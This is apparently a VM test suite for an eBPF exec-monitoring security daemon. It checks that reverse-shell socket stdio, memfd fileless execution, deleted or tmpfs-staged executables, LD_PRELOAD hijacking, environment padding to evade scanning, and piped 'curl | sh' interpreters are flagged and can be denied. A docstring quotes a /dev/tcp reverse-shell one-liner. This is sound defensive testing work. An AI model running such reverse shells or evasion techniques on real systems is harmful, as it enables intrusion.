"""bprm_check_security's exec context, in a VM: the execs an attacker sets up (a reverse
shell's socket stdio, fileless memfd execution, a deleted or /tmp-like executable,
dynamic-linker hijacking through LD_PRELOAD) carry their exact context bits, and a
policy rule can deny on them.

tests/vm/options/bprm_check_security.yaml sets the ld_values option (it is also the
default); the value assertions follow the session config, so they hold either way.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.support.journald import Journal
from tests.support.metrics import metric
from tests.support.procs import PYTHON3, as_uid
from tests.vm.conftest import RunningDaemon
from tests.vm.test_policy import Reloader

pytestmark = pytest.mark.vm
HOOK = "bprm_check_security"
WORKLOAD = Path(__file__).parent / "workloads" / "exec_context_workload.py"
TEST_UID = 64711  # the deny test's processes (setpriv); no other test uses it
LD_SCAN_STRINGS = 256  # environment strings scanned for LD_* (BPRM_CHECK_SECURITY_LD_SCAN_STRINGS)
# The stdio of a test's exec: subprocess pipes (stdout, stderr) and /dev/null (stdin).
PIPED = {"stdin_type": "CHAR", "stdout_type": "PIPE", "stderr_type": "PIPE"}
# The guest's /tmp is an overlay (a tmpfs above the host's /tmp): a copy made there
# (unique_copy(tmp_path)) lies in its upper layer, the guest's /usr/bin/true below.
TMP_COPY = {"UPPER_LAYER"}


def ld_values_enabled(daemon: RunningDaemon) -> bool:
    cfg = yaml.safe_load(daemon.config.read_text())
    return bool((cfg["hooks"].get(HOOK) or {}).get("ld_values", True))  # the sidecar's default: on


def context(o: dict[str, Any]) -> set[str]:
    """The context flags of an event as a set (empty: NONE)."""
    return {f for f in str(o["context"]).split("|") if f != "NONE"}


def unique_copy(directory: Path, src: str = "/bin/true") -> Path:
    exe = directory / f"krsid-ctx-{uuid.uuid4().hex[:12]}"
    shutil.copy2(src, exe)
    return exe


def exec_event(daemon: RunningDaemon, predicate: Callable[[dict[str, Any]], bool]) -> dict[str, Any]:
    events = daemon.wait_events(lambda o: o["hook"] == HOOK and predicate(o))
    assert len(events) == 1, events
    return events[0]


def workload(mode: str, path: Path | str, *, uid: int | None = None) -> list[dict[str, Any]]:
    """Run the workload (as uid, if given); its report lines: [{"pid"}] after a
    successful exec, [{"pid"}, {"pid", "errno"}] after a failed one."""
    argv = [sys.executable, str(WORKLOAD), mode, str(path)]
    p = subprocess.run(
        as_uid(uid, *argv) if uid is not None else argv,
        capture_output=True,
        text=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )
    lines = [json.loads(line) for line in p.stdout.splitlines() if line.strip()]
    assert lines, f"workload {mode} reported nothing (rc {p.returncode}): {p.stderr}"
    return lines


def target_exec(pid: int) -> Callable[[dict[str, Any]], bool]:
    """The workload's own exec of /bin/true (not the exec of the workload into pid)."""
    return lambda o: o["tgid"] == pid and o["args"] == ["/bin/true"]


@pytest.fixture
def enabled(hook_enabled: Callable[[str], None]) -> None:
    hook_enabled(HOOK)


@pytest.mark.parametrize(
    ("mode", "kind"),
    [("tcp", "SOCKET_INET"), ("tcp6", "SOCKET_INET6"), ("socketpair", "SOCKET_UNIX")],
)
def test_socket_stdio_is_typed_and_a_network_socket_is_flagged(
    daemon: RunningDaemon, tmp_path: Path, enabled: None, mode: str, kind: str
) -> None:
    """The reverse-shell shape (`bash -i >& /dev/tcp/HOST/PORT 0>&1`): fds 0-2 are one
    connected socket when the shell is executed. AF_UNIX stdio (journald's for every
    systemd service) is typed but not flagged."""
    if mode == "tcp6" and not socket_has_ipv6():
        pytest.skip("no IPv6 loopback in this VM")
    exe = unique_copy(tmp_path)
    (w,) = workload(mode, exe)
    o = exec_event(daemon, lambda o: o["tgid"] == w["pid"] and o["args"] == [str(exe)])
    assert o["path"] == str(exe)
    assert (o["stdin_type"], o["stdout_type"], o["stderr_type"]) == (kind, kind, kind)
    network = {"STDIN_INET", "STDOUT_INET", "STDERR_INET"} if mode != "socketpair" else set()
    assert context(o) == network | TMP_COPY, o["context"]
    assert o["action"] == "audit"


def socket_has_ipv6() -> bool:
    import socket

    try:
        with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
            s.bind(("::1", 0))
        return True
    except OSError:
        return False


def test_plain_exec_has_no_context(daemon: RunningDaemon, tmp_path: Path, enabled: None) -> None:
    """The control: the system's /usr/bin/true (the lower layer of the guest's /usr
    overlay), pipes and /dev/null for stdio, no LD_* variable; then a copy of it in the
    test's own 0700 directory on the guest's overlay /tmp, which is in that overlay's
    upper layer and nothing else."""
    true = os.path.realpath("/bin/true")
    p = subprocess.Popen([true], env={"PATH": "/usr/bin:/bin"}, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)
    p.communicate(timeout=30)
    assert p.returncode == 0
    o = exec_event(daemon, lambda o: o["tgid"] == p.pid and o["path"] == true)
    assert o["context"] == "NONE"
    assert {k: o[k] for k in PIPED} == {**PIPED, "stderr_type": o["stderr_type"]}  # stderr: pytest's
    assert (o["ld_preload"], o["ld_audit"], o["ld_library_path"]) == ("", "", "")

    exe = unique_copy(tmp_path)
    subprocess.run([str(exe)], env={"PATH": "/usr/bin:/bin"}, stdin=subprocess.DEVNULL, capture_output=True, check=True)
    o = exec_event(daemon, lambda o: o["path"] == str(exe))
    assert context(o) == TMP_COPY, o["context"]
    assert {k: o[k] for k in PIPED} == PIPED


def test_memfd_exec_is_flagged(daemon: RunningDaemon, enabled: None) -> None:
    """Fileless execution: memfd_create, write an ELF, fexecve. A memfd lies on the
    kernel's internal tmpfs and has no name (link count 0)."""
    (w,) = workload("memfd", "/bin/true")
    o = exec_event(daemon, target_exec(w["pid"]))
    assert context(o) == {"MEMFD", "DELETED", "TMPFS"}, o["context"]
    assert o["path"].startswith("/memfd:krsid-payload"), o["path"]


def test_deleted_file_exec_is_flagged(daemon: RunningDaemon, tmpfs_dir: Path, enabled: None) -> None:
    """Run a file whose name is gone: opened, unlinked, executed through /proc/self/fd."""
    tmpfs_dir.chmod(0o755)  # not world-writable: only DELETED and TMPFS
    exe = unique_copy(tmpfs_dir)
    (w,) = workload("deleted", exe)
    o = exec_event(daemon, lambda o: o["tgid"] == w["pid"] and o["args"] == [str(exe)])
    assert context(o) == {"DELETED", "TMPFS"}, o["context"]
    assert o["filename"].startswith("/proc/self/fd/")
    assert o["path"] == f"{exe} (deleted)"


@pytest.mark.parametrize(("mode", "flags"), [(0o1777, {"TMPFS", "WORLD_WRITABLE_DIR"}), (0o755, {"TMPFS"})])
def test_exec_from_tmpfs_and_world_writable_dir(
    daemon: RunningDaemon, tmpfs_dir: Path, enabled: None, mode: int, flags: set[str]
) -> None:
    """/dev/shm and /tmp-like staging: a file on tmpfs, in a directory o+w (1777, as
    /tmp) or not."""
    tmpfs_dir.chmod(mode)
    exe = unique_copy(tmpfs_dir)
    subprocess.run([str(exe)], env={}, stdin=subprocess.DEVNULL, capture_output=True, check=True)
    o = exec_event(daemon, lambda o: o["path"] == str(exe))
    assert context(o) == flags, o["context"]


def test_ld_variables_are_flagged_with_their_values(daemon: RunningDaemon, tmp_path: Path, enabled: None) -> None:
    """Dynamic-linker hijacking: LD_PRELOAD, LD_AUDIT, LD_LIBRARY_PATH by name only; a
    look-alike name does not count, and no other variable's value is kept."""
    exe = unique_copy(tmp_path)
    env = {
        "LD_PRELOADX": "/not-this.so",  # a look-alike: not LD_PRELOAD
        "LD_PRELOAD": "/nonexistent-krsid.so",
        "KRSID_SECRET": "hunter2",
        "LD_AUDIT": "/nonexistent-audit.so",
        "LD_LIBRARY_PATH": "/opt/krsid-lib:/opt/krsid-lib2",
    }
    p = subprocess.run([str(exe)], env=env, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=30)
    assert p.returncode == 0, p.stderr  # ld.so ignores the missing objects (with a message)
    o = exec_event(daemon, lambda o: o["path"] == str(exe))
    assert context(o) == {"LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH"} | TMP_COPY, o["context"]
    if ld_values_enabled(daemon):
        assert (o["ld_preload"], o["ld_audit"], o["ld_library_path"]) == (
            "/nonexistent-krsid.so",
            "/nonexistent-audit.so",
            "/opt/krsid-lib:/opt/krsid-lib2",
        )
    else:
        assert (o["ld_preload"], o["ld_audit"], o["ld_library_path"]) == ("", "", "")
    assert "LD_VALUE_TRUNCATED" not in o["flags"]


def test_ld_preload_alone_and_the_last_occurrence_wins(daemon: RunningDaemon, tmp_path: Path, enabled: None) -> None:
    """Only LD_PRELOAD, set twice (execve allows it): glibc's ld.so takes the last."""
    exe = unique_copy(tmp_path)
    out = subprocess.run(
        [sys.executable, "-c", _EXEC_WITH_ENV, str(exe), "LD_PRELOAD=/first.so", "PATH=/bin", "LD_PRELOAD=/second.so"],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert out.returncode == 0, out.stderr
    o = exec_event(daemon, lambda o: o["path"] == str(exe))
    assert context(o) == {"LD_PRELOAD"} | TMP_COPY, o["context"]
    if ld_values_enabled(daemon):
        assert o["ld_preload"] == "/second.so"


# Exec argv[1] with exactly the environment strings argv[2:] (duplicates kept: os.execve
# takes a dict, so go through ctypes).
_EXEC_WITH_ENV = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.execve.argtypes = [ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p]
def vec(items):
    return (ctypes.c_char_p * (len(items) + 1))(*[os.fsencode(i) for i in items], None)
libc.execve(os.fsencode(sys.argv[1]), vec(sys.argv[1:2]), vec(sys.argv[2:]))
sys.exit(f"execve: errno {ctypes.get_errno()}")
"""


def test_a_padded_environment_is_marked_not_scanned(daemon: RunningDaemon, tmp_path: Path, enabled: None) -> None:
    """Hiding LD_PRELOAD behind more variables than the scan reads does not pass unseen:
    ENV_NOT_SCANNED says the LD_* bits may be missing."""
    exe = unique_copy(tmp_path)
    env = {f"KRSID_PAD_{i:04d}": "x" for i in range(LD_SCAN_STRINGS + 10)}
    env["LD_PRELOAD"] = "/nonexistent-krsid.so"  # after the padding: dict order is the envp order
    p = subprocess.run([str(exe)], env=env, stdin=subprocess.DEVNULL, capture_output=True, timeout=30)
    assert p.returncode == 0, p.stderr
    o = exec_event(daemon, lambda o: o["path"] == str(exe))
    assert context(o) == {"ENV_NOT_SCANNED"} | TMP_COPY, o["context"]
    assert o["envc"] == LD_SCAN_STRINGS + 11


def test_exec_context_in_the_journal(daemon: RunningDaemon, journal: Journal, tmp_path: Path, enabled: None) -> None:
    """The journald sink carries the new fields (KRSID_CONTEXT, KRSID_STDIN_TYPE, ...)."""
    exe = unique_copy(tmp_path)
    (w,) = workload("tcp", exe)
    j = journal.wait_for(lambda e: True, f"KRSID_HOOK={HOOK}", f"KRSID_PATH={exe}")
    assert len(j) == 1, j
    e = j[0]
    assert e["KRSID_TGID"] == str(w["pid"])
    assert e["KRSID_CONTEXT"] == "STDIN_INET|STDOUT_INET|STDERR_INET|UPPER_LAYER"
    assert (e["KRSID_STDIN_TYPE"], e["KRSID_STDOUT_TYPE"]) == ("SOCKET_INET", "SOCKET_INET")
    assert e["MESSAGE"].endswith(" context=STDIN_INET|STDOUT_INET|STDERR_INET|UPPER_LAYER"), e["MESSAGE"]


@pytest.fixture
def policy(daemon: RunningDaemon, enabled: None) -> Iterator[Reloader]:
    with Reloader(daemon) as r:
        yield r


def test_deny_reverse_shell_memfd_and_upper_layer_exec_for_one_uid(daemon: RunningDaemon, policy: Reloader) -> None:
    """A deny rule on the context bits, scoped to a uid only this test uses: its
    socket-stdio, memfd and overlay-upper-layer execs fail with EPERM; its exec of the
    system's /bin/true (the lower layer) and root's memfd exec run."""
    rule = {
        "name": "exec-context-block",
        "hook": HOOK,
        "action": "deny",
        "match": {"uid": TEST_UID, "fields": {"context": {"any": ["STDIN_INET", "MEMFD", "UPPER_LAYER"]}}},
    }
    policy.apply(policy.with_rules(rule))

    tcp = workload("tcp", "/bin/true", uid=TEST_UID)
    assert len(tcp) == 2 and tcp[1]["errno"] == errno.EPERM, tcp
    memfd = workload("memfd", "/bin/true", uid=TEST_UID)
    assert len(memfd) == 2 and memfd[1]["errno"] == errno.EPERM, memfd
    for pid in (tcp[0]["pid"], memfd[0]["pid"]):
        o = exec_event(daemon, target_exec(pid))
        assert (o["action"], o["rule"], o["verdict"]) == ("deny", "exec-context-block", "-EPERM"), o
        assert o["uid"] == TEST_UID
    # A program dropped into the overlay /tmp, in a directory the uid may enter.
    drop_dir = Path(tempfile.mkdtemp(prefix="krsid-ctx-", dir="/tmp"))
    try:
        drop_dir.chmod(0o755)
        dropped = workload("plain", unique_copy(drop_dir), uid=TEST_UID)
    finally:
        shutil.rmtree(drop_dir)
    assert len(dropped) == 2 and dropped[1]["errno"] == errno.EPERM, dropped
    o = exec_event(daemon, lambda o: o["tgid"] == dropped[0]["pid"] and o["path"].startswith(f"{drop_dir}/"))
    assert (o["action"], o["rule"], o["verdict"]) == ("deny", "exec-context-block", "-EPERM"), o
    assert context(o) == TMP_COPY, o["context"]

    # Not denied: the same uid without the context, and root with it.
    plain = subprocess.run(
        as_uid(TEST_UID, "/bin/true"),
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=30,
    )
    assert plain.returncode == 0, plain.stderr
    (root,) = workload("memfd", "/bin/true")
    o = exec_event(daemon, target_exec(root["pid"]))
    assert (o["action"], o["verdict"]) == ("audit", "0")
    assert "MEMFD" in context(o)
    assert metric(daemon.scrape(), "krsid_denied_total", hook=HOOK, rule="exec-context-block") == 3


def verified_insns(prog_id: int) -> int:
    """bpf_prog_info.verified_insns (5.16) of a loaded program: this VM's bpftool does not
    print it. The offset comes from the kernel's BTF, as krsid/kernel/bpfstats.py does."""
    from krsid.kernel.btf import VMLINUX_BTF, Btf
    from krsid.kernel.probe import BpfSyscall

    bpf_prog_get_fd_by_id, bpf_obj_get_info_by_fd = 13, 15
    info_type = Btf.load(VMLINUX_BTF).struct("bpf_prog_info")
    assert info_type is not None, "struct bpf_prog_info not in BTF"
    offset = {m.name: m.bit_offset // 8 for m in info_type.members}["verified_insns"]
    bpf = BpfSyscall()
    attr = ctypes.create_string_buffer(16)
    struct.pack_into("<I", attr, 0, prog_id)
    fd, err = bpf.call(bpf_prog_get_fd_by_id, attr)
    assert fd >= 0, os.strerror(err)
    try:
        info = ctypes.create_string_buffer(info_type.size)
        attr = ctypes.create_string_buffer(16)
        struct.pack_into("<IIQ", attr, 0, fd, len(info), ctypes.addressof(info))
        ret, err = bpf.call(bpf_obj_get_info_by_fd, attr)
        assert ret == 0, os.strerror(err)
    finally:
        os.close(fd)
    (count,) = struct.unpack_from("<I", info, offset)
    return int(count)


# Instructions the verifier may walk for bprm_check_security: far below the kernel's
# 1M limit where the verifier prunes well (6.12: ~186k), and with 10 % to spare where
# it does not (6.1: ~897k, 2026-12-07; every addition before the policy decision
# costs there, see the program's comments).
VERIFY_BUDGET = 400_000
VERIFY_BUDGET_OLD_VERIFIER = 900_000
OLD_VERIFIER_BEFORE = (6, 12)


def test_program_verifies_within_budget(daemon: RunningDaemon, enabled: None) -> None:
    """The exec context is computed before the policy decision without constants that
    differ by path, so the verifier walks the 128-rule loop about once: it must stay far
    below the kernel's 1M limit (on kernels before 6.12, within VERIFY_BUDGET_OLD_VERIFIER).
    Prints the count."""
    out = subprocess.run(["bpftool", "-j", "prog", "show"], capture_output=True, text=True, check=True)
    progs = [p for p in json.loads(out.stdout) if p.get("type") == "lsm" and "bprm_check" in str(p.get("name"))]
    assert len(progs) == 1, progs
    insns = verified_insns(int(progs[0]["id"]))
    sys.stderr.write(f"\nbprm_check_security: {insns} instructions verified, {progs[0].get('bytes_xlated')} bytes\n")
    release = tuple(int(n) for n in os.uname().release.split("-")[0].split(".")[:2])
    budget = VERIFY_BUDGET_OLD_VERIFIER if release < OLD_VERIFIER_BEFORE else VERIFY_BUDGET
    assert 0 < insns < budget, (insns, budget, os.uname().release)


# The script an interpreter runs (bprm_check_security's interpreters, file_open's SCRIPT).
def script_events(daemon: RunningDaemon, pid: int, count: int = 1) -> list[dict[str, Any]]:
    return daemon.wait_events(lambda o: o["hook"] == "file_open" and o["tgid"] == pid, count)


def started(*argv: str, cwd: Path | None = None) -> int:
    """Run argv to its end; its pid (the tgid of its events)."""
    p = subprocess.Popen(argv, cwd=cwd, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    p.wait(timeout=60)
    return p.pid


@pytest.fixture
def scripts(hook_enabled: Callable[[str], None], tmpfs_dir: Path) -> Path:
    """A /dev/shm-like drop directory: tmpfs, mode 1777."""
    hook_enabled(HOOK)
    hook_enabled("file_open")
    tmpfs_dir.chmod(0o1777)
    return tmpfs_dir


def test_a_dropped_script_run_by_its_interpreter_is_reported(daemon: RunningDaemon, scripts: Path) -> None:
    """`sh /dev/shm/x.sh` and `python3 -W ignore x.py` from the drop directory: the
    exec is the interpreter's (its context says nothing of the script), so file_open
    reports the interpreter's open of the script it was started on (a basename of
    argv[1..3], here after an option's value), with where it lies. Once per run: the
    script opening itself again is not reported."""
    shell = scripts / f"krsid-drop-{uuid.uuid4().hex[:10]}.sh"
    shell.write_text(': < "$0"\nexit 0\n')  # the shell opens its own script again
    pid = started("sh", str(shell))
    (o,) = script_events(daemon, pid)
    assert (o["reason"], o["path"], o["access"], o["comm"]) == ("SCRIPT", str(shell), "RDONLY", "sh")
    assert context(o) == {"TMPFS", "WORLD_WRITABLE_DIR"}, o["context"]
    assert (o["watch"], o["action"]) == ("", "audit")

    python = scripts / f"krsid-drop-{uuid.uuid4().hex[:10]}.py"
    python.write_text("import sys\n")
    pid = started(PYTHON3, "-W", "ignore", python.name, cwd=scripts)  # relative, after an option's value
    (o,) = script_events(daemon, pid)
    assert (o["reason"], o["path"], o["comm"]) == ("SCRIPT", str(python), "python3")
    assert context(o) == {"TMPFS", "WORLD_WRITABLE_DIR"}, o["context"]


def test_scripts_elsewhere_and_other_readers_are_not_reported(daemon: RunningDaemon, scripts: Path) -> None:
    """A script of the system (the lower layer of the guest's /usr: no flag), the
    dropped script read by cat (no interpreter) or by a shell's `-c` command that
    names it (cat in the shell's place; a redirection the shell opens itself, read-only
    or read-write: what follows -c is code, not a script), and a #! script given it as its
    argument (`pip install x.whl`: the interpreter pass's argv is the script's, and the
    script reads its argument): nothing. The last process runs the dropped script
    and is reported: the quiet ones' events would have come first."""
    dropped = scripts / f"krsid-drop-{uuid.uuid4().hex[:10]}.sh"
    dropped.write_text("exit 0\n")
    reader = scripts / f"krsid-reader-{uuid.uuid4().hex[:10]}"
    reader.write_text("#!/usr/bin/python3\nimport sys\nopen(sys.argv[1]).read()\n")
    reader.chmod(0o755)
    quiet = [
        started("sh", "-n", "/usr/bin/gettext.sh"),
        started("cat", str(dropped)),
        started("sh", "-c", f"cat {dropped}"),
        started("sh", "-c", f"read line < {dropped}"),  # the shell itself reads it: -c code, no script
        started("sh", "-c", f": 1<> {dropped}"),  # a read-write open: no script either
        started(str(reader), str(dropped)),
    ]
    last = started("sh", str(dropped))
    (o,) = script_events(daemon, last)
    assert (o["reason"], o["path"]) == ("SCRIPT", str(dropped))
    assert daemon.events(lambda e: e["hook"] == "file_open" and e["tgid"] in quiet) == []


# An interpreter reading its program from stdin (context STDIN_SCRIPT).
def fed(argv: list[str], program: bytes, *, stdin: int | None = subprocess.PIPE) -> int:
    """Run argv with program on its stdin (a pipe), or with stdin as given; its pid.
    Programs by absolute path: a PATH search could run pyenv's shims first (more execs
    of the same process)."""
    p = subprocess.Popen(argv, stdin=stdin, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    _out, err = p.communicate(program if stdin == subprocess.PIPE else None, timeout=60)
    assert p.returncode == 0, err
    return p.pid


def exec_of(pid: int, argv: list[str]) -> Callable[[dict[str, Any]], bool]:
    return lambda o: o["tgid"] == pid and o["args"] == argv


def test_an_interpreter_fed_its_program_through_a_pipe_is_flagged(
    daemon: RunningDaemon, tmp_path: Path, enabled: None
) -> None:
    """`curl ... | sh` and `... | python3 -`: the interpreter is started on no script and
    no -c code, and its stdin is a pipe: STDIN_SCRIPT. Not flagged: -c code or a script
    given with a pipe for stdin, an interpreter whose stdin is /dev/null, a program that
    is no interpreter reading a pipe."""
    script = tmp_path / "job.sh"
    script.write_text("exit 0\n")
    flagged = [
        ["/bin/sh"],
        ["/bin/sh", "-s", "--", "-y"],  # curl ... | sh -s -- -y
        ["/usr/bin/python3", "-"],
    ]
    quiet = [
        ["/bin/sh", "-c", "exit 0"],
        ["/bin/sh", str(script)],
        ["/bin/cat"],
    ]
    runs = [(argv, fed(argv, b"exit 0\n" if argv[0] == "/bin/sh" else b"import sys\n")) for argv in flagged + quiet]
    runs.append((["/bin/sh"], fed(["/bin/sh"], b"", stdin=subprocess.DEVNULL)))  # stdin /dev/null
    for i, (argv, pid) in enumerate(runs):
        o = exec_event(daemon, exec_of(pid, argv))
        expected = {"STDIN_SCRIPT"} if i < len(flagged) else set()
        assert context(o) == expected, (argv, o["context"], o["stdin_type"])
        assert o["stdin_type"] == ("PIPE" if i < len(runs) - 1 else "CHAR"), (argv, o["stdin_type"])


def test_deny_a_shell_fed_through_a_pipe_for_one_uid(daemon: RunningDaemon, policy: Reloader) -> None:
    """would_deny then deny on context STDIN_SCRIPT, scoped to a uid only this test uses:
    its `... | sh` is reported, then refused (EPERM); its `sh -c` still runs."""

    def rule(action: str) -> dict[str, Any]:
        return {
            "name": f"stdin-script-{action}",
            "hook": HOOK,
            "action": action,
            "match": {"uid": TEST_UID, "fields": {"context": {"any": ["STDIN_SCRIPT"]}}},
        }

    def piped_shell() -> subprocess.CompletedProcess[bytes]:
        return subprocess.run(as_uid(TEST_UID, "/bin/sh"), input=b"echo ran\n", capture_output=True, timeout=60)

    policy.apply(policy.with_rules(rule("would_deny")))
    p = piped_shell()
    assert (p.returncode, p.stdout) == (0, b"ran\n"), p
    (o,) = daemon.wait_events(lambda o: o["hook"] == HOOK and o.get("rule") == "stdin-script-would_deny")
    assert (o["action"], o["verdict"], o["uid"], o["args"]) == ("would_deny", "0", TEST_UID, ["/bin/sh"]), o

    policy.apply(policy.with_rules(rule("deny")))
    p = piped_shell()
    assert p.returncode != 0 and p.stdout == b"", p  # setpriv's exec of sh failed
    (o,) = daemon.wait_events(lambda o: o["hook"] == HOOK and o.get("rule") == "stdin-script-deny")
    assert (o["action"], o["verdict"], o["uid"]) == ("deny", "-EPERM", TEST_UID), o
    assert "STDIN_SCRIPT" in context(o)
    code = subprocess.run(as_uid(TEST_UID, "/bin/sh", "-c", "echo ran"), input=b"", capture_output=True, timeout=60)
    assert (code.returncode, code.stdout) == (0, b"ran\n"), code
    assert metric(daemon.scrape(), "krsid_denied_total", hook=HOOK, rule="stdin-script-deny") == 1
